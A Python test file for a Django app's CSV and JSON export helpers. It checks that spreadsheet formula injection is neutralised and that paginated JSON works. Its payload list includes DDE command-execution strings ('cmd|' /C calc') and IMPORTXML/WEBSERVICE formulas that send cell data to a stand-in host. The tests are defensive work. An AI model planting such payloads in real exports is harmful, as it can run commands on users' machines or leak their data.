import csv
import io
import json

import pytest
from django.core.paginator import Paginator
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st

from hub.core.ui.exports import csv_response, json_page_response, neutralise, restore

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example.org","ici")', "=IMPORTXML(CONCAT(\"http://x.example.org/\",A1),\"//a\")",
    "=2+5+cmd|'/C calc'!A0", "=@SUM(1+1)", "=", "==1", "=A1\n=A2", "=WEBSERVICE(\"http://x.example.org\")",
    "+1+1", "+33 1 99 00 12 34", "+cmd|' /C calc'!A0", "+", "+\t=1",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "-", "--1", "−=1"[1:],
    "@SUM(1+1)", "@", "@=1", "\t=1+1", "\t", "\r=1+1", "\r\n=1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1", "'+33",
]  # fmt: skip
SAFE = ["", "Bâti Commun", "l’atelier", "1=1", "a@example.org", " =1", "'", "'a", "12,5", "«=»", "2027-01-18"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_there_are_thirty_payloads():
    assert len(set(FORMULAS)) >= 30


@pytest.mark.parametrize("typed", FORMULAS)
def test_formula_is_neutralised_and_comes_back(typed):
    kept = neutralise(typed)

    assert kept == "'" + typed
    assert restore(kept) == typed


@pytest.mark.parametrize("typed", SAFE)
def test_plain_text_is_left_alone(typed):
    assert neutralise(typed) == typed
    assert restore(typed) == typed


@pytest.mark.parametrize("typed", ["x;=1+1;y", ";@SUM(1)", "a;b;+33 1", "x;'=1", "x;=1;;=2"])
def test_a_start_behind_a_semicolon_is_one_too(typed):
    """A French spreadsheet opens the file by cutting it at semicolons."""
    kept = neutralise(typed)

    assert not any(part.startswith(STARTS) for part in kept.split(";"))
    assert restore(kept) == typed


@given(st.text() | st.text(alphabet=";'=+-@a \t"))
def test_whatever_was_typed_comes_back(typed):
    assert not any(part.startswith(STARTS) for part in neutralise(typed).split(";"))
    assert restore(neutralise(typed)) == typed


def rows_of(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_holds_every_payload_harmless_and_whole():
    response = csv_response("personnes.csv", ["Nom", "=Téléphone"], [["Maud", typed] for typed in FORMULAS])
    header, *rows = rows_of(response)

    assert header == ["Nom", "'=Téléphone"]
    assert [row[1][:1] for row in rows] == ["'"] * len(FORMULAS)
    assert [restore(row[1]) for row in rows] == FORMULAS


def test_csv_opens_right_in_a_spreadsheet():
    response = csv_response('annuaire "\r\n/../é.csv', ["A"], [["é"]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="annuaire-..-.csv"'
    assert b"".join(response.streaming_content) == b"\xef\xbb\xbfA\r\n\xc3\xa9\r\n"


def test_csv_keeps_numbers_as_numbers():
    _, row = rows_of(csv_response("a.csv", ["A", "B", "C", "D"], [[-5, -0.57, None, True]]))

    assert row == ["-5", "-0.57", "", "True"]


def test_csv_asks_for_rows_as_it_goes():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [number]

    stream = iter(csv_response("a.csv", ["A"], rows()).streaming_content)
    next(stream)
    next(stream)

    assert asked == [0]


def test_json_page_names_the_next_one():
    request = RequestFactory().get("/annuaire.json", {"metier": ["a", "b"], "page": "2"})
    page = Paginator(range(25), 10).page(2)

    answer = json.loads(json_page_response(request, page, lambda n: {"n": n, "nom": "é"}).content)

    assert answer["count"] == 25
    assert answer["next"] == "http://testserver/annuaire.json?metier=a&metier=b&page=3"
    assert [row["n"] for row in answer["results"]] == list(range(10, 20))


def test_json_last_page_has_no_next():
    request = RequestFactory().get("/annuaire.json")

    assert json.loads(json_page_response(request, Paginator([1], 10).page(1), lambda n: {"n": n}).content)["next"] is None
